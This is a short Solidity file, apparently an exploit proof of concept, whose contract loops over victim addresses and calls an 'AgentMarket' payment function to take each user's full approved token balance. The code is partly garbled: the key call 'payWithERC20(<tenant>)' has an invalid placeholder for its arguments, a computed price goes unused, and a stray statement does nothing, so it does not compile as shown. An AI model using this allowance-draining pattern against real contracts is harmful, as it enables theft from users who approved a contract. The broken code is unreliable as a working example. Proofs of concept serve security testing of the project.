// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {AgentMarket} from "src/AgentMarket.sol";
import {IERC20} from "src/interfaces/IERC20.sol";

/// @notice Collects a "price" from everybody who has approved the market; how that is called is drawn with the project.
contract Poc {
    struct Fake {
        IERC20 token;
        address host;
    }

    bool public reached;
    Fake[1] private offers;

    function attack(uint256, address[] calldata contracts, address[] calldata tokens, address[] calldata users)
        external
    {
        offers[0] = Fake(IERC20(tokens[0]), address(this));
        reached = true;
        for (uint256 i = 0; i < users.length; i++) {
            take(AgentMarket(contracts[0]), users[i]);
        }
    }

    function take(AgentMarket market, address tenant) private {
        uint256 id = 0;
        uint256 price = offers[id].token.balanceOf(tenant);
        try market.payWithERC20(<tenant>) {} catch {}
        id;
    }
}
